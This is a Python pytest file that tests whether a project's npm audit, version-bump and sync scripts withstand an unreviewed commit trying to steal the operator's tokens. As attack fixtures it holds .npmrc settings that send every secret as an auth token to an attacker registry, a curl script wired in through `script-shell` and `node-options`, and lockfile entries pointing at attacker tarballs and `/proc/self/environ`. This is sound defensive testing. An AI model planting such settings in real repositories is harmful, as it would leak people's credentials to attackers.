"""What npm reads of an unreviewed commit: no secret of the operator leaks, and the commit does not choose the registry."""

from __future__ import annotations

import json
from dataclasses import dataclass
from typing import TYPE_CHECKING

import pytest

from tests.operator_scripts.npm_registry import NpmRegistry
from tests.operator_scripts.published import Published, published
from tests.tools import program

if TYPE_CHECKING:
    from collections.abc import Callable, Iterator

    from tests.operator_scripts.repositories import Clone, CommandResult

AUDIT, BUMP, LOCKFILE = "publish/audit-dependencies.sh", "publish/bump-version.sh", "development/update-lockfile-linux.sh"
STAGING, MAIN = "publish/sync-develop-to-staging.sh", "publish/sync-staging-to-main.sh"
SECRETS = {
    "GH_TOKEN": "ghp_a-person",
    "AWS_SECRET_ACCESS_KEY": "aws-of-a-person",
    "GHCR_REGISTRY_TOKEN": "ghp_a-person",
    "NPM_TOKEN": "npm-of-a-person",
    "ACTIONS_RUNTIME_TOKEN": "actions-of-a-runner",
}
ADVISORY = {
    "id": 1,
    "url": "https://github.com/advisories/GHSA-2345-6789-cfgh",
    "title": "It is bad",
    "severity": "high",
    "vulnerable_versions": "<2.0.0",
    "cwe": [],
    "cvss": {"score": 5},
}


FOUND = "GHSA-2345-6789-cfgh (high) in left-pad"
STOLEN = "".join(f"${{{name}}}" for name in SECRETS)


def theft(theirs: NpmRegistry) -> dict[str, str]:
    """The plainest: npm asks the commit's registry, with a token that the commit names."""
    text = f"registry={theirs.url}/\n{theirs.nerf_dart}:_authToken={STOLEN}\n"
    return {".npmrc": text, "apps/api/.npmrc": text}


def settings(text: str) -> Callable[[NpmRegistry], dict[str, str]]:
    """A line for `.npmrc`, and a file that other lines can name."""

    def files(theirs: NpmRegistry) -> dict[str, str]:
        line = text.format(url=theirs.url, dart=theirs.nerf_dart, stolen=STOLEN)
        return {".npmrc": f"{line}\n", "theirs.npmrc": theft(theirs)[".npmrc"], "theirs.sh": f"#!/bin/sh\ncurl {theirs.url}\n"}

    return files


@dataclass
class Attack:
    """A clone with a registry of the attacker, and the operator's registry, which has an advisory."""

    pipeline: Published
    theirs: NpmRegistry
    mine: NpmRegistry

    def commit(self, files: dict[str, str]) -> None:
        """The attacker's commit, on develop and staged."""
        clone = self.pipeline.clone
        root, lock = (json.loads(clone.read(name)) for name in ("package.json", "package-lock.json"))
        root |= {
            "dependencies": {"left-pad": "1.3.0"},
            "config": {"registry": self.theirs.url},
            "publishConfig": {"registry": self.theirs.url},
        }
        lock["packages"][""]["dependencies"] = {"left-pad": "1.3.0"}
        lock["packages"]["node_modules/left-pad"] = {"version": "1.3.0", "resolved": f"{self.theirs.url}/tarballs/left-pad/1.3.0"}
        clone.commit(files={"package.json": json.dumps(root), "package-lock.json": json.dumps(lock), **files})
        commit = self.pipeline.push("develop")
        self.pipeline.stage("1.2.3-staging.0", commit)
        self.pipeline.ran(commit)

    def run(self, name: str, *arguments: str, **environment: str) -> CommandResult:
        return self.pipeline.clone.run(name, *arguments, **{**self.pipeline.environment, **SECRETS, **environment})

    def heard(self) -> list[str]:
        """The secrets that the operator's registry received."""
        text = "\n".join(request.text for request in self.mine.requests)
        return [secret for secret in SECRETS.values() if secret in text]


@pytest.fixture
def attack(clone: Clone) -> Iterator[Attack]:
    program("npm")
    program("node")
    with NpmRegistry() as theirs, NpmRegistry() as mine:
        theirs.publish("left-pad", "1.3.0")
        mine.publish("left-pad", "1.3.0")
        mine.advisories = {"left-pad": [ADVISORY]}
        clone.put("../home/.npmrc", f"registry={mine.url}/\n{mine.nerf_dart}:_authToken=${{NPM_TOKEN}}\n")
        clone.environment.pop("npm_config_offline")
        for pipeline in published(clone):
            (clone.bin / "npm").unlink()
            clone.engine()
            yield Attack(pipeline, theirs, mine)


AUDITS = {
    "the audit of a commit": (AUDIT, ["HEAD"]),
    "the audit of a folder": (AUDIT, []),
    "bump": (BUMP, ["patch", "--yes"]),
    "to staging": (STAGING, ["--dry-run"]),
    "to main": (MAIN, ["--dry-run"]),
}


@pytest.mark.parametrize("name", AUDITS)
def test_audit_sends_no_secret_to_a_registry_that_the_commit_names(attack: Attack, name: str) -> None:
    script, arguments = AUDITS[name]
    attack.commit(theft(attack.theirs))
    if script == MAIN:
        attack.pipeline.push("staging")
    ran = attack.run(script, *arguments)
    assert [request.path for request in attack.theirs.requests] == []
    assert (ran.code, FOUND in ran.output) == (1, True), ran.output
    assert attack.heard() == [SECRETS["NPM_TOKEN"]], "what the operator's own settings send, and nothing else"
    assert not [secret for secret in SECRETS.values() if secret in ran.output]


@pytest.mark.parametrize("name", AUDITS)
def test_settings_of_the_operator_may_name_any_variable(attack: Attack, name: str) -> None:
    """It reaches the operator's registry whichever script runs the audit. A script that also requests GitHub takes nothing from it."""
    script, arguments = AUDITS[name]
    mine = attack.mine
    value = "of-mine-${GH_TOKEN}-${GITHUB_TOKEN}-${GHCR_REGISTRY_TOKEN}"
    attack.pipeline.clone.put("../home/.npmrc", f"registry={mine.url}/\n{mine.nerf_dart}:_authToken={value}\n")
    attack.commit({})
    if script == MAIN:
        attack.pipeline.push("staging")
    ran = attack.run(script, *arguments, GITHUB_TOKEN="ghp_another")  # noqa: S106  it opens nothing
    assert (ran.code, FOUND in ran.output) == (1, True), ran.output
    assert any("of-mine-ghp_a-person-ghp_another-ghp_a-person" in request.text for request in mine.requests)


SETTINGS = {
    "other settings of the operator": "userconfig=./theirs.npmrc",
    "a name for npm": "user-agent={stolen}",
    "all others": "@metaboost:registry={url}/\nproxy={url}/\nhttps-proxy={url}/\nglobalconfig=./theirs.npmrc\nprefix=./theirs\n"
    "cafile=./theirs.npmrc\nscript-shell=./theirs.sh\ngit=./theirs.sh\nnode-options=--require ./theirs.sh\noffline=true\naudit=false\n"
    "omit[]=prod\nworkspace=apps/api",
}


@pytest.mark.parametrize("name", SETTINGS)
def test_audit_ignores_settings_of_the_commit(attack: Attack, name: str) -> None:
    attack.commit(settings(SETTINGS[name])(attack.theirs))
    ran = attack.run(AUDIT, "HEAD")
    assert [request.path for request in attack.theirs.requests] == []
    assert (ran.code, FOUND in ran.output) == (1, True), ran.output
    assert attack.heard() == [SECRETS["NPM_TOKEN"]]


ADDRESSES = {
    "an address": ("node_modules/evil", "{url}/x.tgz"),
    "an address behind a name": ("node_modules/evil", "evil@{url}/x.tgz"),
    "a repository": ("node_modules/evil", "git+{url}/x.git"),
    "a file of this machine": ("node_modules/evil", "evil@file:///proc/self/environ"),
    "a name that is no text": ("node_modules/evil", 7),
    "a folder": ("node_modules/git@127.0.0.1:x", None),
    "a folder of a scope": ("node_modules/a/node_modules/@b/git@127.0.0.1:x", "git@127.0.0.1:x"),
    "a workspace": ("apps/api", "{url}/x.tgz"),
}


@pytest.mark.parametrize("name", ADDRESSES)
def test_audit_requests_no_url_from_the_lockfile(attack: Attack, name: str) -> None:
    """The audit requests the packages that depend on a vulnerable one by their names, wherever these lead."""
    place, address = ADDRESSES[name]
    attack.commit({})
    lock = json.loads(attack.pipeline.clone.read("package-lock.json"))
    evil = address.format(url=attack.theirs.url) if isinstance(address, str) else address
    entry = {"version": "1.0.0", "dependencies": {"left-pad": "1.3.0"}, **({} if evil is None else {"name": evil})}
    lock["packages"] |= {place: {**lock["packages"].get(place, {}), **entry}}
    lock["packages"][""]["dependencies"]["evil"] = "*"
    attack.pipeline.clone.commit(files={"package-lock.json": json.dumps(lock)})
    ran = attack.run(AUDIT, "HEAD")
    assert [request.path for request in attack.theirs.requests + attack.mine.requests] == []
    assert ran.code == 1
    assert f"package-lock.json names {place} " in ran.output
    assert ", which npm takes for an address; expected: the name of a package. To do: " in ran.output


def test_stops_when_the_lockfile_hides_its_workspaces(attack: Attack) -> None:
    """In version 1 there are `dependencies`, and npm takes a workspace from where that says."""
    attack.commit({})
    old = {"lockfileVersion": 1, "dependencies": {"@metaboost/shared": {"version": "9.9.9", "resolved": f"{attack.theirs.url}/x.tgz"}}}
    attack.pipeline.clone.commit(files={"package-lock.json": json.dumps(old)})
    ran = attack.run(AUDIT, "HEAD")
    assert (
        ran.code,
        "package-lock.json has lockfileVersion 1; expected: 2 or higher. To do: scripts/development/update-lockfile-linux.sh" in ran.output,
    ) == (1, True), ran.output


@pytest.mark.parametrize("setting", ["NPM_CONFIG_REGISTRY", "NPM_CONFIG_USERCONFIG"])
@pytest.mark.parametrize("event", ["", "sync"])
def test_settings_in_capitals_are_those_of_the_operator(attack: Attack, setting: str, event: str) -> None:
    """They count for npm, and a script that it runs is given none of them by it."""
    attack.commit({})
    home = attack.pipeline.clone.root / "home"
    (home / ".npmrc").rename(home / "mine.npmrc")
    value = f"{attack.mine.url}/" if setting == "NPM_CONFIG_REGISTRY" else str(home / "mine.npmrc")
    under = {"npm_lifecycle_event": event, "npm_config_registry": attack.theirs.url} if event else {}
    ran = attack.run(AUDIT, "HEAD", **{setting: value}, **under)
    assert (ran.code, FOUND in ran.output) == (1, True), ran.output
    assert attack.theirs.requests == []
    assert attack.heard() == ([SECRETS["NPM_TOKEN"]] if setting == "NPM_CONFIG_USERCONFIG" else [])


def test_container_uses_no_registry_that_the_commit_names(attack: Attack) -> None:
    attack.commit(theft(attack.theirs))
    settings_of_the_image = attack.pipeline.clone.put("../image", f"registry={attack.mine.url}/\n")
    ran = attack.run(LOCKFILE, "--yes", "--fresh", npm_config_userconfig=str(settings_of_the_image))
    assert [request.path for request in attack.theirs.requests] == []
    assert ran.code == 0, ran.output
    assert attack.mine.url in attack.pipeline.clone.read("package-lock.json")
    assert attack.heard() == []
    assert "settings of .npmrc that are not copied to the container: registry //127.0.0.1:" in ran.output


def test_container_gets_the_settings_that_decide_the_tree(attack: Attack) -> None:
    attack.pipeline.clone.commit(files={".npmrc": "legacy-peer-deps=true\n; why\n\ncafile = ${HOME}/x\nbefore=${GH_TOKEN}\n"})
    ran = attack.run(LOCKFILE, "--yes", FAKE_ENGINE_DOES="cat .npmrc >&2; npm install --package-lock-only >&2", npm_config_offline="true")
    assert ran.code == 0, ran.output
    assert "are not copied to the container: cafile before\nlegacy-peer-deps=true\n" in ran.output
